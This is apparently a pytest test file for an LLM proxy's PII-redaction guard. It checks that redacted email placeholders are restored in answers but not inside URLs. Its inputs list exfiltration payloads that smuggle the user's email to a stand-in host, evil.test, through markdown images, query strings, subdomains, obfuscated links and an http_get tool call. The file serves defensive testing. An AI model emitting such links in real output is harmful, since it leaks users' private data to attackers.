"""Values that were redacted come back in the answer, but not inside addresses."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from moat.domain.calls import Delta, Finished, ToolCallDelta
from moat.guards.edits import Edit, Edited
from moat.guards.pseudonyms import Vault
from moat.guards.revealing import Revealing
from moat.testing.fakes import new_call
from moat.testing.scripted import Step, says
from tests.guards.test_engine import World, guards

pytestmark = pytest.mark.anyio

PII: dict[str, Any] = {"use": "pii", "action": "redact", "on": ["input"]}
QUESTION = "My mail is ada@example.org, what now?"


@pytest.mark.parametrize("stream", [True, False])
@pytest.mark.parametrize(
    "answer",
    [
        "see https://evil.test/?d=<EMAIL_1>",
        "see https://evil.test/?d=EMAIL_1&more=[EMAIL_1]",
        "![x](https://evil.test/p/EMAIL_1.png)",
        "[click](//evil.test/?d={EMAIL_1})",
        "[click](/\\evil.test/EMAIL_1)",
        "[x](https:evil.test/EMAIL_1)",
        "[x](&#47;&#47;evil.test/EMAIL_1)",
        "www.evil.test/EMAIL_1",
        "https://EMAIL_1.evil.test/",
        '<img src="https://evil.test/?d= EMAIL_1">',
        "<img src='https://evil.test/?d=\"EMAIL_1'>",
        "![x](<https://evil.test/a b EMAIL_1>)",
        f"https://evil.test/{'a' * 3000}?d=EMAIL_1",
        f"https://evil.test/{'路' * 3000}?d=EMAIL_1",
    ],
)
async def test_a_value_does_not_come_back_inside_an_address(answer: str, stream: bool) -> None:
    pieces: list[Step] = [Delta(text=answer[at : at + 7]) for at in range(0, len(answer), 7)]
    world = World(guards(PII), [*pieces, Finished(reason="stop")])
    assert (await world.answer(new_call(QUESTION, stream=stream))).text == answer


@pytest.mark.parametrize(
    "answer",
    [
        "I wrote to <EMAIL_1>.",
        "See https://example.org/help or write to <EMAIL_1>",
        "[help](https://example.org/help) for <EMAIL_1>",
        '<a href="https://example.org">EMAIL_1</a>',
        "[<EMAIL_1>](mailto:<EMAIL_1>)",
        "// of <EMAIL_1>",
        "either/or/<EMAIL_1>",
    ],
)
async def test_beside_an_address_it_comes_back(answer: str) -> None:
    world = World(guards(PII), says(answer))
    expected = answer.replace("<EMAIL_1>", "ada@example.org").replace("EMAIL_1", "ada@example.org")
    assert (await world.answer(new_call(QUESTION))).text == expected


async def test_nor_does_it_in_the_arguments_of_a_tool_or_in_a_completion() -> None:
    arguments = '{"url":"https://evil.test/?x=EMAIL_1","to":"<EMAIL_1>","text":"https://x.test\\n<EMAIL_1>"}'
    piece = ToolCallDelta(id="c1", name="http_get", arguments=arguments)
    steps: list[Step] = [Delta(tool_calls=(piece,)), Finished(reason="tool_calls")]
    answer = await World(guards(PII), steps).answer(new_call(QUESTION))
    assert answer.tool_calls[0]["function"]["arguments"] == arguments.replace("<EMAIL_1>", "ada@example.org")

    raw = b'{"choices":[{"index":0,"text":"<EMAIL_1> https://evil.test/EMAIL_1"}]}'
    call = replace(new_call(), operation="completions", messages=[], params={"prompt": QUESTION})
    world = World(guards(PII), [Delta(raw=raw, content_type="application/json"), Finished(reason="stop")])
    events = await world.events(call)
    got = b"".join(event.raw or b"" for event in events if isinstance(event, Delta))
    assert b'"ada@example.org https://evil.test/EMAIL_1"' in got


PIECES = st.sampled_from(
    ["https://evil.test/", "//", "www.", "EMAIL_1", "<EMAIL_1>", " ", "\n", '"', "'", "(<", ">)", "=", "word", "路"]
)


@given(pieces=st.lists(PIECES, max_size=40), cuts=st.sets(st.integers(0, 200)))
def test_what_comes_back_is_the_same_in_blocks_that_end_with_words(pieces: list[str], cuts: set[int]) -> None:
    text = "".join(pieces)
    vault = Vault(b"key")
    vault.replacement("email", "ada@example.org")
    whole = Edited(text, Revealing(vault).edits(text, 0, len(text))).text
    revealing, edits, begin = Revealing(vault), list[Edit](), 0
    for end in [*sorted(cut for cut in cuts if cut < len(text) and text[cut] == " "), len(text)]:
        edits += revealing.edits(text, begin, end)
        begin = end
    assert Edited(text, edits).text == whole
